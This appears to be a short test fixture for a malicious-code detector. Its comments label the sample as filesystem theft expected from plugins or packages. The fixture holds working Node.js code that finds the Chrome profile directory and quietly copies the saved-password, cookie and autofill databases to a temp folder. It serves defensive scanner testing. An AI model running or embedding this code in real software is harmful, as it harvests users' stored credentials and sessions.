// expect: category=filesystem min=85 context=plugin,package
// why: browser password and cookie databases are copied out of the profile directory.
const fs = require('fs');
const path = require('path');
const os = require('os');

const base =
  process.platform === 'win32'
    ? path.join(process.env.LOCALAPPDATA || '', 'Google', 'Chrome', 'User Data', 'Default')
    : path.join(os.homedir(), '.config', 'google-chrome', 'Default');

const out = path.join(os.tmpdir(), 'x');
fs.mkdirSync(out, { recursive: true });
for (const db of ['Login Data', 'Cookies', 'Web Data']) {
  try {
    fs.copyFileSync(path.join(base, db), path.join(out, db.replace(' ', '_')));
  } catch {}
}
